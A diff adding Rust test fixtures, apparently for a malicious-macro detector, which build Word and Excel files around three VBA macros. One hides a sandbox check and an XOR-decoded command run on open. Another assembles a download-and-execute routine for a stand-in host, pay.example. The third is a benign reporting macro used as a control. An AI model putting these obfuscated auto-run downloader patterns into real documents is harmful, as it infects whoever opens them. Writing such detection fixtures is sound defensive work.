@@ -1,0 +1,81 @@
+//! Macros whose texts only show when they are run, and honest ones that look alike. All of it is inert.
+
+use super::Fixture;
+use super::ooxml::Package;
+use super::vba::{Module, vba_project};
+
+/// A decoder with a key, in a branch that a sandbox would not take.
+const XOR: &str = "Private Sub Document_Open()
+If Application.UserName = \"sandbox\" Then Exit Sub
+Dim w As Object
+Set w = CreateObject(Clear(\"363202130811154F3209040D0D\", \"a\"))
+CallByName w, StrReverse(\"nuR\"), VbMethod, Clear(Join(Array(\"020C\", \"0541\", \"4E02\", \"4119\"), \"\"), \"a\"), 0
+End Sub
+Private Function Clear(ByVal t As String, k As String) As String
+Dim i As Long
+For i = 1 To Len(t) Step 2
+Clear = Clear & Chr(Val(\"&H\" & Mid$(t, i, 2)) Xor Asc(k))
+Next i
+End Function
+";
+
+/// Fetches, stores and starts, with every name put together by a procedure that fills what it is given.
+const PIECES: &str = "Private Sub Workbook_Open()
+Dim u As String, p As String, n, h As Object, s As Object
+For Each n In Array(104, 116, 116, 112, 58, 47, 47)
+Add u, n
+Next
+u = u & Split(\"x|pay.example|y\", \"|\")(1) & \"/a.exe\"
+p = Environ(\"TEMP\") & \"\\a.exe\"
+Set h = CreateObject(Replace(\"MSXML2.##XML##HTTP\", \"##\", \"\"))
+h.Open \"GET\", u, False
+h.send
+Set s = CreateObject(\"ADODB.\" & StrReverse(\"maertS\"))
+s.Type = 1
+s.Open
+s.Write h.responseBody
+s.SaveToFile p, 2
+CreateObject(\"Shell.Application\").ShellExecute p
+End Sub
+Sub Add(ByRef t As String, ByVal c)
+t = t & Chr(c)
+End Sub
+";
+
+/// A morning routine of an office: files, a database, a timer.
+const ROUTINE: &str = "Private Sub Workbook_Open()
+Dim fso As Object, f As Object, d As Object, r As Long, name As Variant
+Set fso = CreateObject(\"Scripting.FileSystemObject\")
+Set d = CreateObject(\"Scripting.Dictionary\")
+For Each name In Array(\"東京\", \"大阪\")
+d(name) = 0
+Next
+For r = 2 To Cells(Rows.Count, 1).End(xlUp).Row
+d(Cells(r, 1).Value) = d(Cells(r, 1).Value) + Cells(r, 2).Value
+Next r
+Set f = fso.CreateTextFile(ThisWorkbook.Path & \"\\日報_\" & Format(Date, \"yyyymmdd\") & \".csv\", True)
+For Each name In d.Keys
+f.WriteLine name & \",\" & d(name)
+Next
+f.Close
+Application.OnTime Now + TimeValue(\"01:00:00\"), \"ThisWorkbook.\" & \"Refresh\"
+End Sub
+Public Sub Refresh()
+Dim c As Object, k As Variant
+For Each k In Array(\"ADODB.Connection\", \"ADODB.Recordset\")
+Set c = CreateObject(k)
+Next
+End Sub
+";
+
+pub(crate) fn fixtures() -> Vec<Fixture> {
+    let word =
+        |source: &str| Package::word(true).macros(&vba_project(&[Module::document("ThisDocument", source)])).build();
+    let excel =
+        |source: &str| Package::excel(true).macros(&vba_project(&[Module::document("ThisWorkbook", source)])).build();
+    vec![
+        Fixture::new("docm-xor-decoder", "report.docm", word(XOR)),
+        Fixture::new("xlsm-built-download", "invoice.xlsm", excel(PIECES)),
+        Fixture::new("xlsm-morning-routine", "nippo.xlsm", excel(ROUTINE)),
+    ]
+}
